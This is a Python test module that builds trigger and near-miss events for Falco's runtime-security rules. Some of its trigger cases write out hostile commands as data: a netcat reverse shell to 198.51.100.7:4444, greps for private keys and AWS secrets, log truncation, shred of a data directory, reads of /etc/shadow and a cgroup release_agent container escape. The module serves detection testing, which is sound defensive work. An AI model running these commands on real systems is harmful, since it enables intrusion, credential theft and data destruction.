"""For each rule of Falco's stable falco_rules.yaml: an event that triggers it and a near miss.

Records follow `rules.record` (positional lists; raw kernel values, which the engine renders the
way Falco prints them). Each case builds fresh records, so a test may not leak state into another.
``also`` names other stable rules the triggering event matches too, as it would in Falco with
``rule_matching: all`` (the rules overlap); with first-match the case's own rule is reported
because it comes first in the file.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from rules import record as R

TS = 1_700_000_000 * 10**9  # event time, ns
CONTAINER_ID = "3ad7b26ded6d" + "0" * 52
K8S_API_IP = "10.96.0.1"
IP_NAMES = {K8S_API_IP: "kubernetes.default.svc.cluster.local"}  # stands in for Falco's DNS lookup

O_RDONLY, O_WRONLY = 0o0, 0o1
O_TRUNC, O_APPEND = 0o1000, 0o2000
AF_INET, AF_PACKET = 2, 17
PTRACE_TRACEME, PTRACE_GETREGS, PTRACE_ATTACH = 0, 12, 16
CAP_DAC_OVERRIDE, CAP_SYS_MODULE, CAP_SYS_ADMIN = 1 << 1, 1 << 16, 1 << 21


def container(
    *, repo: str = "docker.io/library/alpine", privileged: bool = False, ns: str = "default"
) -> list[Any]:
    c: list[Any] = [None] * R.CONTAINER_LEN
    c[R.C_ID] = CONTAINER_ID
    c[R.C_NAME] = "app"
    c[R.C_IMAGE] = f"{repo}:latest"
    c[R.C_IMAGE_REPO] = repo
    c[R.C_IMAGE_TAG] = "latest"
    c[R.C_PRIVILEGED] = privileged
    c[R.C_TYPE] = "containerd"
    c[R.K_NS] = ns
    c[R.K_POD_NAME] = "app-7d9f"
    return c


def process(
    name: str,
    *,
    args: Sequence[str] = (),
    exe: str | None = None,
    parent: list[Any] | None = None,
    in_container: list[Any] | None = None,
    tty: int = 0,
    uid: int = 0,
    user: str = "root",
    exe_flags: int = 0,
    caps: int = 0,
    cwd: str = "/",
) -> list[Any]:
    """A process record; ``in_container`` puts it in that container (else on the host)."""
    p: list[Any] = [None] * R.PROCESS_LEN
    p[R.P_PID] = 4242
    p[R.P_PPID] = None if parent is None else parent[R.P_PID]
    p[R.P_NAME] = name[:15]
    p[R.P_EXE] = exe or f"/usr/bin/{name}"
    p[R.P_EXEPATH] = exe if exe and exe.startswith("/") else f"/usr/bin/{name}"
    p[R.P_ARGS] = list(args)
    p[R.P_CWD] = cwd
    p[R.P_TTY] = tty
    p[R.P_UID] = uid
    p[R.P_GID] = uid
    p[R.P_USER] = user
    p[R.P_GROUP] = user
    p[R.P_LOGINUID] = -1
    p[R.P_SID] = 4000
    p[R.P_VPID] = 42
    p[R.P_VPGID] = 42
    p[R.P_START] = TS - 60 * 10**9
    p[R.P_CAP_EFF] = caps
    p[R.P_CAP_PERM] = caps
    p[R.P_CAP_INH] = 0
    p[R.P_EXE_FLAGS] = exe_flags
    p[R.P_CONTAINER_ID] = R.HOST_CONTAINER_ID if in_container is None else in_container[R.C_ID]
    p[R.P_PARENT] = parent
    p[R.P_CONTAINER] = in_container
    p[R.P_NODE] = "node-1"
    return p


def chain(*names: str, in_container: list[Any] | None = None, **leaf: Any) -> list[Any]:
    """``chain("nginx", "sh")``: sh, child of nginx (oldest first); ``leaf`` applies to the last."""
    proc: list[Any] | None = None
    for name in names[:-1]:
        proc = process(name, parent=proc, in_container=in_container)
    return process(names[-1], parent=proc, in_container=in_container, **leaf)


def fd(
    typechar: str = "f",
    name: str | None = None,
    *,
    num: int = 3,
    nameraw: str | None = None,
    l4proto: str | None = None,
    client: tuple[str, int] | None = None,
    server: tuple[str, int] | None = None,
    connected: bool = True,
) -> list[Any]:
    f: list[Any] = [None] * R.FD_LEN
    f[R.F_NUM] = num
    f[R.F_TYPECHAR] = typechar
    if client and server:
        name = f"{client[0]}:{client[1]}->{server[0]}:{server[1]}"
        f[R.F_CIP], f[R.F_CPORT] = client
        f[R.F_SIP], f[R.F_SPORT] = server
    f[R.F_NAME] = name
    f[R.F_NAMERAW] = nameraw if nameraw is not None else name
    f[R.F_L4PROTO] = l4proto
    f[R.F_IS_SERVER] = False
    f[R.F_CONNECTED] = connected
    f[R.F_NAME_CHANGED] = False
    return f


def event(
    type_name: str, proc: list[Any], *, res: int = 0, fd: list[Any] | None = None, **params: Any
) -> list[Any]:
    """An exit event; ``params`` by Falco's parameter names, the rest None."""
    type_id = R.EVENT_TYPE_IDS[type_name]
    index = R.EVENT_PARAM_INDEX[type_id]
    args: list[Any] = [None] * len(R.EVENT_PARAMS[type_id])
    for key, value in params.items():
        args[index[key]] = value
    ev: list[Any] = [None] * R.EVENT_LEN
    ev[R.EV_TYPE] = type_id
    ev[R.EV_TS] = TS
    ev[R.EV_TID] = proc[R.P_PID]
    ev[R.EV_PROC] = proc
    ev[R.EV_RES] = res
    ev[R.EV_ARGS] = args
    ev[R.EV_FD] = fd
    ev[R.EV_NUM] = 1
    return ev


def execve(proc: list[Any]) -> list[Any]:
    return event("execve", proc, exe=proc[R.P_EXE], args=proc[R.P_ARGS], cwd=proc[R.P_CWD], tty=proc[R.P_TTY])


def open_file(proc: list[Any], path: str, flags: int, *, nameraw: str | None = None) -> list[Any]:
    f = fd("f", path, nameraw=nameraw)
    return event("openat", proc, res=3, fd=f, dirfd=-100, name=nameraw or path, flags=flags, mode=0)


@dataclass(frozen=True)
class Case:
    rule: str
    trigger: Callable[[], list[Any]]
    near_miss: Callable[[], list[Any]]
    why_not: str  # what the near miss changes
    also: tuple[str, ...] = field(default=())


CASES: tuple[Case, ...] = (
    Case(
        "Directory traversal monitored file read",
        lambda: open_file(
            chain("nginx", "php-fpm"), "/etc/passwd", O_RDONLY, nameraw="/var/www/../../etc/passwd"
        ),
        lambda: open_file(chain("nginx", "php-fpm"), "/etc/passwd", O_RDONLY, nameraw="/etc/passwd"),
        "the path as passed has no ../ traversal",
    ),
    Case(
        "Read sensitive file trusted after startup",
        lambda: open_file(chain("systemd", "nginx"), "/etc/shadow", O_RDONLY),
        lambda: open_file(chain("systemd", "sshd"), "/etc/shadow", O_RDONLY),
        "sshd is excluded",
        also=("Read sensitive file untrusted",),
    ),
    Case(
        "Read sensitive file untrusted",
        lambda: open_file(chain("bash", "cat"), "/etc/shadow", O_RDONLY),
        lambda: open_file(chain("bash", "passwd"), "/etc/shadow", O_RDONLY),
        "passwd is a user-management binary",
    ),
    Case(
        "Run shell untrusted",
        lambda: execve(chain("systemd", "nginx", "sh", args=["-c", "id"])),
        lambda: execve(chain("nginx", "bash", "sh", args=["-c", "id"])),
        "the parent is itself a shell",
    ),
    Case(
        "System user interactive",
        lambda: execve(chain("sshd", "bash", user="www-data", uid=33)),
        lambda: execve(chain("sshd", "bash", user="alice", uid=1000)),
        "alice is not a system user",
    ),
    Case(
        "Terminal shell in container",
        lambda: execve(chain("containerd-shim", "bash", in_container=container(), tty=34816)),
        lambda: execve(chain("containerd-shim", "bash", tty=34816)),
        "the same shell on the host (container id 'host')",
    ),
    Case(
        "Contact K8S API Server From Container",
        lambda: event(
            "connect",
            chain("curl", in_container=container()),
            fd=fd("4", client=("10.244.1.7", 40000), server=(K8S_API_IP, 443), l4proto="tcp"),
        ),
        lambda: event(
            "connect",
            chain("curl", in_container=container(ns="kube-system")),
            fd=fd("4", client=("10.244.1.7", 40000), server=(K8S_API_IP, 443), l4proto="tcp"),
        ),
        "kube-system pods may talk to the API server",
    ),
    Case(
        "Netcat Remote Code Execution in Container",
        lambda: execve(
            chain("bash", "nc", in_container=container(), args=["-e", "/bin/sh", "198.51.100.7", "4444"])
        ),
        lambda: execve(chain("bash", "nc", in_container=container(), args=["-z", "198.51.100.7", "4444"])),
        "no -e/-c",
    ),
    Case(
        "Search Private Keys or Passwords",
        lambda: execve(chain("bash", "grep", args=["-r", "BEGIN RSA PRIVATE", "/home"])),
        lambda: execve(chain("bash", "grep", args=["-r", "TODO", "/home"])),
        "not searching for a key header",
    ),
    Case(
        "Clear Log Activities",
        lambda: open_file(chain("bash", "truncate"), "/var/log/syslog", O_WRONLY | O_TRUNC),
        lambda: open_file(chain("bash", "logger"), "/var/log/syslog", O_WRONLY | O_APPEND),
        "appending, not truncating",
    ),
    Case(
        "Remove Bulk Data from Disk",
        lambda: execve(chain("bash", "shred", args=["-u", "/data/db"])),
        lambda: execve(chain("bash", "rm", args=["-rf", "/data/db"])),
        "rm is not a bulk-wipe tool in the rule",
    ),
    Case(
        "Create Symlink Over Sensitive Files",
        lambda: event(
            "symlinkat", chain("bash", "ln"), target="/etc/shadow", linkdirfd=-100, linkpath="/tmp/s"
        ),
        lambda: event("symlinkat", chain("bash", "ln"), target="/tmp/a", linkdirfd=-100, linkpath="/tmp/s"),
        "the target is not sensitive",
    ),
    Case(
        "Create Hardlink Over Sensitive Files",
        lambda: event("link", chain("bash", "ln"), oldpath="/etc/shadow", newpath="/tmp/h"),
        lambda: event("link", chain("bash", "ln"), oldpath="/tmp/a", newpath="/tmp/h"),
        "the source is not sensitive",
    ),
    Case(
        "Packet socket created in container",
        lambda: event(
            "socket",
            chain("tcpdump", in_container=container()),
            res=3,
            fd=fd("p", num=3),
            domain=AF_PACKET,
            type=3,
            proto=768,
        ),
        lambda: event(
            "socket", chain("tcpdump"), res=3, fd=fd("p", num=3), domain=AF_PACKET, type=3, proto=768
        ),
        "the same socket on the host",
    ),
    Case(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        lambda: event(
            "dup2",
            chain("bash", in_container=container()),
            res=1,
            fd=fd("4", client=("10.244.1.7", 40000), server=("198.51.100.7", 4444), l4proto="tcp"),
            oldfd=3,
            newfd=1,
        ),
        lambda: event(
            "dup2",
            chain("bash", in_container=container()),
            res=5,
            fd=fd("4", client=("10.244.1.7", 40000), server=("198.51.100.7", 4444), l4proto="tcp"),
            oldfd=3,
            newfd=5,
        ),
        "the socket is not duplicated onto stdin/stdout/stderr",
    ),
    Case(
        "Linux Kernel Module Injection Detected",
        lambda: event(
            "init_module",
            chain("insmod", in_container=container(), caps=CAP_SYS_MODULE),
            length=4096,
            uargs="",
        ),
        lambda: event("init_module", chain("insmod", caps=CAP_SYS_MODULE), length=4096, uargs=""),
        "loaded from the host",
    ),
    Case(
        "Debugfs Launched in Privileged Container",
        lambda: execve(chain("bash", "debugfs", in_container=container(privileged=True), args=["/dev/sda1"])),
        lambda: execve(chain("bash", "debugfs", in_container=container(), args=["/dev/sda1"])),
        "the container is not privileged",
    ),
    Case(
        "Detect release_agent File Container Escapes",
        lambda: open_file(
            chain("bash", "sh", in_container=container(), caps=CAP_SYS_ADMIN | CAP_DAC_OVERRIDE),
            "/tmp/cgrp/release_agent",
            O_WRONLY,
        ),
        lambda: open_file(
            chain("bash", "sh", in_container=container(), caps=CAP_DAC_OVERRIDE),
            "/tmp/cgrp/release_agent",
            O_WRONLY,
        ),
        "no CAP_SYS_ADMIN",
    ),
    Case(
        "PTRACE attached to process",
        lambda: event("ptrace", chain("bash", "gdb"), request=PTRACE_ATTACH, pid=1234, addr=0, data=0),
        lambda: event("ptrace", chain("bash", "gdb"), request=PTRACE_GETREGS, pid=1234, addr=0, data=0),
        "reading registers does not attach or write",
    ),
    Case(
        "PTRACE anti-debug attempt",
        lambda: event("ptrace", chain("bash", "malware"), request=PTRACE_TRACEME, pid=0, addr=0, data=0),
        lambda: event("ptrace", chain("bash", "malware"), request=PTRACE_GETREGS, pid=0, addr=0, data=0),
        "not PTRACE_TRACEME",
    ),
    Case(
        "Find AWS Credentials",
        lambda: execve(chain("bash", "grep", args=["-ri", "aws_secret_access_key", "/home"])),
        lambda: execve(chain("bash", "grep", args=["-ri", "password", "/srv"])),
        "not looking for AWS keys",
    ),
    Case(
        "Execution from /dev/shm",
        lambda: execve(chain("bash", "payload", exe="/dev/shm/payload")),
        lambda: execve(chain("bash", "payload", exe="/usr/local/bin/payload")),
        "the binary is not in /dev/shm",
    ),
    Case(
        "Drop and execute new binary in container",
        lambda: execve(chain("bash", "payload", in_container=container(), exe_flags=R.EXE_UPPER_LAYER)),
        lambda: execve(chain("bash", "payload", in_container=container(), exe_flags=R.EXE_LOWER_LAYER)),
        "the binary comes from the image (lower layer)",
    ),
    Case(
        "Disallowed SSH Connection Non Standard Port",
        lambda: event(
            "connect",
            chain("bash", "ssh", exe="/usr/bin/ssh"),
            fd=fd("4", client=("192.168.1.20", 50000), server=("203.0.113.10", 8080), l4proto="tcp"),
        ),
        lambda: event(
            "connect",
            chain("bash", "ssh", exe="/usr/bin/ssh"),
            fd=fd("4", client=("192.168.1.20", 50000), server=("203.0.113.10", 22), l4proto="tcp"),
        ),
        "port 22 is the standard one",
    ),
    Case(
        "Fileless execution via memfd_create",
        lambda: execve(chain("bash", "payload", exe="memfd:payload", exe_flags=R.EXE_FROM_MEMFD)),
        lambda: execve(chain("containerd", "runc", exe="memfd:runc", exe_flags=R.EXE_FROM_MEMFD)),
        "runc re-executes itself from a memfd on purpose",
    ),
)

LOAD_OPTIONS: Mapping[str, Any] = {"ip_names": IP_NAMES}
